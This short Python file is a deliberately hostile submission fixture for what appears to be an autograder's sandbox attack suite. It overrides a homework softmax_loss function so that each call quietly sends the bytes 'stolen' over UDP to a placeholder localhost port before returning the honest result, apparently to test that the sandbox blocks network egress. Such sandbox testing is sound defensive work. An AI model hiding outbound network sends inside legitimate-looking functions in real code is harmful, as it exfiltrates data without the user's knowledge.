"""Hostile submission for the attack suite: udp send.

tests/test_sandbox_attacks.py grades this attack appended to the honest
submissions/examples/hw2/correct_vectorized.py (so it may use its functions and np).
Placeholders in CAPITALS are filled in by tests/test_sandbox_attacks.py.
"""

# ---- the attack: softmax_loss is replaced by a hostile version -------------
_honest_softmax_loss = softmax_loss


def softmax_loss(W, X, y, reg):
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"stolen", ("127.0.0.1", UDP_PORT))
    return _honest_softmax_loss(W, X, y, reg)
